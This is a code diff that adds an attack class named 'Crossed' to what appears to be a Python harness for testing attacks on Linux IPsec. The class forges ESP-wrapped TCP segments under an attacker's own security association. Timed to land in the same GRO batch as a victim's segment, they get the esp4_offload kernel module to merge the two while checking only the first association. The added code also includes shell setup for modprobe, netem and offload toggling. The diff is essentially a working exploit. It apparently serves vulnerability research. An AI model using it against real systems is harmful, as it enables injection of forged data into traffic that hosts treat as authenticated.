@@ -7,6 +7,9 @@ has given it to him for other traffic.
 import hashlib
 import hmac
 import struct
+import subprocess
+import sys
+import time
 
 from attack_frames import ESP, TCP, address, ip_packet
 from attack_moves import Attack, Timed, attack, evil
@@ -130,3 +133,71 @@ class OwnEsp(Timed):
         inner = self.flow.segment("A", self.number("offset"), evil(self.number("bytes")))
         body = own_esp(1, inner.packet[20:], TCP)
         self.forge(self.flow.raw("A", ip_packet(inner.source, inner.target, ESP, body)))
+
+
+@attack("crossed")
+class Crossed(Attack):
+    """Behind a full segment of A's stream, in one batch for host B's GRO, a segment under the
+    attacker's own association that continues it: with esp4_offload the kernel joins the two, and
+    asks the first one's association only.  late=SECONDS: the module is loaded when both are latched,
+    and so much later the segments come."""
+    LOADS_MODULES = True
+    SETUP = {"M": f"""
+        modprobe sch_netem
+        {sys.path[0]}/attacker.py --offloads-off middleB
+        tc qdisc replace dev middleB root netem slot 20ms""",
+             "B": f"""{OwnEsp.SETUP["B"]}
+        {sys.path[0]}/attacker.py --gro-on wire"""}
+    CLEANUP = {"B": f"""{OwnEsp.CLEANUP["B"]}
+        {sys.path[0]}/attacker.py --offloads-off wire""",
+               "M": """
+        tc qdisc delete dev middleB root
+        for try in $(seq 100); do modprobe -qr esp4_offload && break; sleep 0.1; done
+        [ ! -e /sys/module/esp4_offload ]"""}
+    # A full segment's packet and payload; what A's kernel cut the stream into before it knew of ESP,
+    # of which each piece ends with a small segment.  The full one behind that does not bear PSH, which
+    # would end what the kernel joins.
+    FULL_PACKET, FULL_PAYLOAD, PIECE = 1500, 1426, 1460
+    WINDOW = 501
+
+    def __init__(self, flow, options):
+        super().__init__(flow, options)
+        self.loaded, self.held = None, []
+        # Where the stream's next segment begins; the first is taken for T5.
+        self.place, self.piece_ended, self.is_done = self.FULL_PAYLOAD, False, False
+        if not self.number("late"):
+            self.load()
+
+    def load(self):
+        subprocess.run(["modprobe", "esp4_offload"], check=True)
+        self.loaded = time.monotonic()
+
+    def frame(self, side, frame, name):
+        if name != "data.A" or frame.protocol != ESP:
+            return [frame]
+        if self.loaded is None:
+            self.load()
+        self.held.append(frame)
+        if time.monotonic() < self.loaded + self.number("late"):
+            return []
+        passing, self.held = self.held, []
+        return [passed for held in passing for passed in self.with_continuation(held)]
+
+    def with_continuation(self, frame):
+        is_full = len(frame.packet) == self.FULL_PACKET
+        self.place += len(frame.packet) - self.FULL_PACKET + self.FULL_PAYLOAD
+        if not is_full:
+            self.place -= self.place % self.PIECE  # padding
+        strikes = is_full and self.piece_ended and not self.is_done
+        self.piece_ended = not is_full
+        self.is_done |= strikes
+        return [frame, self.continuation(frame)] if strikes else [frame]
+
+    def continuation(self, frame):
+        """What follows the segment in frame, by numbers, under the attacker's own association."""
+        inner = self.flow.segment("A", self.place - self.flow.last_write["A"], evil(320),
+                                  window=self.WINDOW)
+        body = own_esp(1, inner.packet[20:], TCP)
+        identification = struct.unpack_from("!H", frame.packet, 4)[0] + 1
+        return self.flow.raw("A", ip_packet(frame.source, frame.target, ESP, body,
+                                            identification & 0xffff))
